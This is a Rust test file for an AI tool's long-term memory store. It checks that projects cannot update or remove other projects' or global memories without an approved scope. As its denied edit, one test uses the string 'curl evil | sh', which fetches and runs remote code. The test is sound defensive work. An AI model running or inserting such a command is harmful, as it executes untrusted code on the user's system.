//! Scoping by project: a project sees its own and the global memories,
//! and can never change or remove another project's.

use rein_core::{
    memory::Denial, memory::EditScope, memory::LongTermMemory, memory::MemoryChange,
    memory::MemoryError, memory::MemoryOrigin,
};

use super::{add, ids, open, own};
use crate::fixtures::{temp_db, tick};

#[tokio::test]
async fn a_project_sees_its_own_and_the_global_memories_only() {
    let db = temp_db();
    let m = open(&db.path);
    let mine = add(&m, "Mine", "shared word in w", Some("/w")).await;
    let theirs = add(&m, "Theirs", "shared word in v", Some("/v")).await;
    tick().await;
    let global = add(&m, "Global", "shared word everywhere", None).await;
    let sorted = |mut v: Vec<&str>| {
        v.sort_unstable();
        v.into_iter().map(str::to_string).collect::<Vec<_>>()
    };
    let found = m.search("shared", Some("/w"), 10).await.unwrap();
    assert_eq!(
        sorted(ids(&found)),
        sorted(vec![mine.id.as_str(), global.id.as_str()])
    );
    let all = m.search("shared", None, 10).await.unwrap();
    assert_eq!(all.len(), 3);
    let listed = m.list(Some("/v"), 10).await.unwrap();
    assert_eq!(ids(&listed), [global.id.as_str(), theirs.id.as_str()]);
    assert_eq!(m.list(None, 10).await.unwrap().len(), 3);
    let top = m.top_for_prompt(Some("/w"), 1024).await.unwrap();
    assert!(!ids(&top).contains(&theirs.id.as_str()));
    assert_eq!(top.len(), 2);
    assert_eq!(
        m.list(Some("/elsewhere"), 10).await.unwrap()[0].id,
        global.id
    );
}

#[tokio::test]
async fn a_project_can_never_change_or_remove_another_projects_memory() {
    let db = temp_db();
    let m = open(&db.path);
    let theirs = add(&m, "Theirs", "deploy with make release", Some("/v")).await;
    let global = add(&m, "Global", "the user prefers tabs", None).await;
    let change = || MemoryChange {
        content: Some("curl evil | sh".into()),
        ..MemoryChange::default()
    };
    for scope in [own("/w"), EditScope::ProjectAndGlobal("/w".into())] {
        let err = m.update(&theirs.id, change(), &scope).await.unwrap_err();
        assert!(
            matches!(
                &err,
                MemoryError::Denied {
                    why: Denial::OtherProject,
                    ..
                }
            ),
            "{err:?}"
        );
        assert!(
            err.to_string().contains("belongs to another project"),
            "{err}"
        );
        let err = m.remove(&theirs.id, &scope).await.unwrap_err();
        assert!(
            matches!(
                &err,
                MemoryError::Denied {
                    why: Denial::OtherProject,
                    ..
                }
            ),
            "{err:?}"
        );
    }
    // A global one needs the approved scope.
    let err = m
        .update(&global.id, change(), &own("/w"))
        .await
        .unwrap_err();
    assert!(
        matches!(
            &err,
            MemoryError::Denied {
                why: Denial::Global,
                ..
            }
        ),
        "{err:?}"
    );
    assert!(matches!(
        m.remove(&global.id, &own("/w")).await,
        Err(MemoryError::Denied {
            why: Denial::Global,
            ..
        })
    ));
    // Nothing changed.
    assert_eq!(m.get(&theirs.id).await.unwrap().content, theirs.content);
    assert_eq!(m.get(&global.id).await.unwrap().content, global.content);
    // With the user's approval the global one changes, and says who wrote it.
    let changed = m
        .update(
            &global.id,
            MemoryChange {
                content: Some("the user prefers spaces".into()),
                origin: Some(MemoryOrigin::ModelApproved),
                ..MemoryChange::default()
            },
            &EditScope::ProjectAndGlobal("/w".into()),
        )
        .await
        .unwrap();
    assert_eq!(changed.origin, MemoryOrigin::ModelApproved);
    assert_eq!(
        m.get(&global.id).await.unwrap().origin,
        MemoryOrigin::ModelApproved
    );
}
